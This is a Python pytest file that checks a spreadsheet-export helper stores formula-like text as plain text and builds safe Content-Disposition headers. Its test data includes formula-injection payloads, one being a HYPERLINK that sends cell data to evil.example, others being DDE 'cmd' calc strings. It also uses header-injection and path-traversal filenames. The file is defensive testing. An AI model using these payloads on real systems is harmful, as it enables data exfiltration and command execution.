"""kit.exporting: spreadsheet text never becomes a formula; download names never become headers."""

from __future__ import annotations

import io
import re
from datetime import date
from decimal import Decimal
from urllib.parse import unquote

import pytest
from openpyxl import Workbook, load_workbook

from coopzone.kit.exporting import append_row, content_disposition, is_formula_like, set_cell

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _round_trip(values: list[object]) -> tuple[list[object], list[str], list[bool]]:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    assert append_row(sheet, ["header"]) == 1
    assert append_row(sheet, values) == 2
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read is not None
    cells = list(read[2])
    return [c.value for c in cells], [c.data_type for c in cells], [c.quotePrefix for c in cells]


def test_text_that_looks_like_a_formula_is_written_as_text() -> None:
    values, types, quoted = _round_trip(list(PAYLOADS))
    # Exactly the text, no quote added to it (XML reads a lone CR back as LF).
    assert values == [p.replace("\r", "\n") for p in PAYLOADS]
    assert types == ["s"] * len(PAYLOADS)
    assert quoted == [True] * len(PAYLOADS)


def test_numbers_dates_and_plain_text_stay_what_they_are() -> None:
    values, types, quoted = _round_trip([-5, -1.25, Decimal("-3.50"), 0, date(2025, 9, 30),
                                         "醴陵市", "a=b", None])
    assert values[:4] == [-5, -1.25, -3.5, 0]
    assert types[:4] == ["n", "n", "n", "n"]  # negative numbers are numbers, not text
    assert types[4] == "d" and values[5:7] == ["醴陵市", "a=b"]
    assert types[5:7] == ["s", "s"] and quoted[:7] == [False] * 7


def test_set_cell_on_an_existing_sheet_returns_the_cell() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    cell = set_cell(sheet, 3, 2, "=1+1")
    assert (cell.row, cell.column, cell.value, cell.data_type) == (3, 2, "=1+1", "s")
    assert set_cell(sheet, 3, 3, Decimal("12.50")).data_type == "n"
    assert is_formula_like("=x") and not is_formula_like("x=") and not is_formula_like(-1)


HEADER = re.compile(r"""attachment; filename="([ !#-\[\]-~]*)"; """
                    r"""filename\*=UTF-8''([A-Za-z0-9!#$&+.^_`|~%-]+)""")


@pytest.mark.parametrize("name", [
    "agreements.xlsx", "萍乡 协议.xlsx", 'evil"; filename="x.exe', "a\r\nSet-Cookie: x=1.xlsx",
    "..\\..\\boot.ini", "../../etc/passwd", "semi;colon.xlsx", "tab\tname.pdf", "",
])
def test_content_disposition_carries_the_name_and_nothing_else(name: str) -> None:
    header = content_disposition(name)
    match = HEADER.fullmatch(header)  # one ASCII line, exactly these two parameters
    assert match, header
    fallback, real = match[1], unquote(match[2])
    assert not set(fallback) & set('"\\/;')
    assert "/" not in real and "\\" not in real and "\r" not in real and "\n" not in real
    if name == "萍乡 协议.xlsx":
        assert real == name and fallback == "__ __.xlsx"
    if name == "agreements.xlsx":
        assert header == ('attachment; filename="agreements.xlsx"; '
                          "filename*=UTF-8''agreements.xlsx")
    if name == "":
        assert fallback == "download" and real == "download"
